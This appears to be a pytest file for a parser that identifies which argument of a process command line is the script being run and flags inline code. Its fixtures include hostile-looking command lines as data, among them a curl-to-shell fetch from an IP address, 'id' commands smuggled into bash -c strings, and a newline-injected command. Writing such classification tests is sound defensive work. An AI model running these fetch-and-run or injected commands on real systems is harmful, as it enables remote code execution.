"""Which argument of a command is the script that it runs."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tetratui.core.tuning.learning.script_arguments import command_of

S = "/opt/ops/inventory.sh"


@pytest.mark.parametrize(
    ("binary", "arguments", "script"),
    [
        ("/usr/bin/bash", S, S),
        ("/bin/sh", f"{S} --full /tmp/x", S),
        ("/usr/bin/bash", f"-eux {S}", S),
        ("/usr/bin/bash", f"-o pipefail {S}", S),
        ("/usr/bin/bash", f"--norc -- {S}", S),
        ("/usr/bin/bash", "./inventory.sh", "./inventory.sh"),
        ("/usr/bin/bash", ' "/opt/my app/run me.sh" x', "/opt/my app/run me.sh"),
        ("/usr/bin/python3.11", "-u -W ignore /opt/ops/inventory.py", "/opt/ops/inventory.py"),
        ("/usr/bin/perl", "-w /opt/ops/inventory.pl", "/opt/ops/inventory.pl"),
        ("/bin/busybox", f"sh {S}", S),
        (S, f"{S} --full", S),
        ("/opt/x.py", "-u /opt/x.py a", "/opt/x.py"),
    ],
)
def test_the_script_of_a_command(binary: str, arguments: str, script: str) -> None:
    assert command_of(binary, arguments).script == script


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/usr/bin/bash", f'-c "curl -s http://203.0.113.66/x | sh # {S}"'),
        ("/usr/bin/bash", f"-c {S}"),
        ("/bin/sh", f"-ec {S}"),
        ("/usr/bin/bash", f"-o pipefail -c {S}"),
        ("/usr/bin/python3", f'-c "import os" {S}'),
        ("/usr/bin/perl", f"-ne print {S}"),
        ("/usr/bin/node", f"--eval=1 {S}"),
        ("/usr/bin/timeout", f'4 bash -c "id # {S}"'),
        ("/usr/bin/su", f'deploy -s /bin/sh -c "id; {S}"'),
        ("/usr/bin/docker", f'exec two /bin/sh -c "{S}"'),
        ("/proc/self/exe", f'-c "id # {S}"'),
    ],
)
def test_code_in_the_arguments_is_no_script(binary: str, arguments: str) -> None:
    found = command_of(binary, arguments)
    assert (found.script, found.code) == ("", True)


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/usr/bin/cp", f"{S} /tmp/.a/inventory.sh"),
        ("/usr/bin/vim", S),
        ("/usr/bin/bash", f"--rcfile /tmp/x {S}"),
        ("/usr/bin/bash", f"--init-file={S}"),
        ("/usr/bin/bash", f"{S}\nid"),
        ("/usr/bin/env", f"bash {S}"),
        ("/usr/bin/python3", f"-m http.server {S}"),
    ],
)
def test_a_command_that_only_names_a_path_runs_no_script(binary: str, arguments: str) -> None:
    assert command_of(binary, arguments).script == ""


@given(st.sampled_from(["/bin/sh", "/usr/bin/python3", "/usr/bin/perl", "/usr/bin/sudo", S]), st.text(max_size=60))
def test_a_command_of_any_arguments_is_read(binary: str, arguments: str) -> None:
    command = command_of(binary, arguments)
    assert not (command.script and command.code)
    assert command.script in {"", binary} or command.script in arguments


def test_a_shell_without_a_script_reads_its_input() -> None:
    assert command_of("/usr/bin/sh", "").stdin
    assert command_of("/usr/bin/bash", "-i").stdin
    assert command_of("/usr/bin/bash", "-").stdin
